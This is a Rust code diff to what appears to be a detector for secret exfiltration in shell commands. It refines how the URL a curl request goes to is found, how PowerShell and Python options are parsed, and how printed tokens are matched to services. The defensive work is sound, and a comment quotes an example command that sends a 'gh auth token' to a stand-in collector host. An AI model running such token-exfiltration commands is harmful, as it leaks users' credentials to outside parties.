@@ -267,31 +267,59 @@ pub(crate) fn interpreter(m: &mut Machine, name: &str, args: &[Value], stdin: &V
     }
 }
 
+/// The address a request goes to: the first word with `://` that is not the value of an
+/// option (`-H "Referer: https://github.com/"`, `-d "repo=https://…"`, `-e URL`).
+fn request_address<'t>(texts: &[&'t str]) -> &'t str {
+    const VALUED: [&str; 16] = [
+        "-H",
+        "--header",
+        "-d",
+        "--data",
+        "--data-raw",
+        "--data-binary",
+        "--data-urlencode",
+        "-e",
+        "--referer",
+        "-F",
+        "--form",
+        "-u",
+        "--user",
+        "-b",
+        "--cookie",
+        "--json",
+    ];
+    texts
+        .iter()
+        .enumerate()
+        .find(|&(i, t)| t.contains("://") && !t.starts_with('-') && (i == 0 || !VALUED.contains(&texts[i - 1])))
+        .map_or("", |(_, t)| *t)
+}
+
 /// Whether interpreter `name`'s option `option` takes the next word as its value.
 fn takes_value(name: &str, option: &str) -> bool {
-    let option = option.to_ascii_lowercase();
     match name.trim_end_matches(".exe") {
-        "pwsh" | "powershell" => matches!(
-            option.as_str(),
-            "-executionpolicy"
-                | "-ep"
-                | "-ex"
-                | "-exec"
-                | "-windowstyle"
-                | "-w"
-                | "-win"
-                | "-version"
-                | "-inputformat"
-                | "-outputformat"
-                | "-configurationname"
-                | "-workingdirectory"
-                | "-wd"
-                | "-psconsolefile"
-                | "-settingsfile"
-        ),
-        n if n.starts_with("python") => matches!(option.as_str(), "-w" | "-x"),
+        // PowerShell takes any unambiguous prefix of a parameter's name (`-ExecutionPol`,
+        // `-ex`, `-wi`), in any case.
+        "pwsh" | "powershell" => {
+            const VALUED: [&str; 9] = [
+                "executionpolicy",
+                "windowstyle",
+                "version",
+                "inputformat",
+                "outputformat",
+                "configurationname",
+                "workingdirectory",
+                "psconsolefile",
+                "settingsfile",
+            ];
+            let option = option.trim_start_matches('-').to_ascii_lowercase();
+            matches!(option.as_str(), "ep" | "ex" | "w" | "wd" | "v")
+                || option.len() >= 2 && VALUED.iter().any(|p| p.starts_with(option.as_str()))
+        }
+        // Python's `-W` and `-X` take values; `-x` and `-w` do not.
+        n if n.starts_with("python") => matches!(option, "-W" | "-X"),
         "node" | "nodejs" => matches!(
-            option.as_str(),
+            option,
             "-r" | "--require" | "--import" | "--loader" | "--experimental-loader"
         ),
         _ => false,
@@ -328,7 +356,7 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
     };
     // A token a program printed for one service, in a header to another host: stolen
     // (`-H "Authorization: Bearer $(gh auth token)" https://collector.example`).
-    let address = texts.iter().find(|t| t.contains("://")).copied().unwrap_or("");
+    let address = request_address(&texts);
     let stolen_in_header = |v: &Value| {
         v.taint.secret.as_ref().is_some_and(|secret| {
             !v.taint.weak_secret
@@ -500,7 +528,7 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
         return;
     };
     let weak = sent.taint.weak_secret;
-    let destination = texts.iter().find(|t| t.contains("://")).copied().unwrap_or("");
+    let destination = request_address(&texts);
     let owner_matches = weak && token_for(&secret.what, destination);
     let where_ = if secret.line == line {
         secret.what.clone()
@@ -536,8 +564,8 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
 /// name is generic (`$API_KEY`, `$TOKEN`); or the service of a token a program printed
 /// (`gh auth token` → `github`, [`targets::PRINTED_TOKENS`]).
 pub(crate) fn service_of(variable: &str) -> Option<String> {
-    if let Some((_, service)) = targets::PRINTED_TOKENS.iter().find(|(what, _)| *what == variable) {
-        return Some((*service).to_owned());
+    if let Some((_, labels)) = targets::PRINTED_TOKENS.iter().find(|(what, _)| *what == variable) {
+        return labels.first().map(|l| (*l).to_owned());
     }
     let first = variable.strip_prefix('$')?.split('_').next()?.to_ascii_lowercase();
     const GENERIC: [&str; 12] = [
@@ -620,6 +648,9 @@ fn registrable_label(host: &str) -> &str {
 /// theft.
 pub(crate) fn token_for(variable: &str, destination: &str) -> bool {
     let host = host_of(destination);
+    if let Some((_, labels)) = targets::PRINTED_TOKENS.iter().find(|(what, _)| *what == variable) {
+        return labels.contains(&registrable_label(&host));
+    }
     // The registrable label (`slack` in `hooks.slack.com`), not any substring: a token
     // sent to `github.com.evil.example` is not sent to GitHub.
     match service_of(variable) {
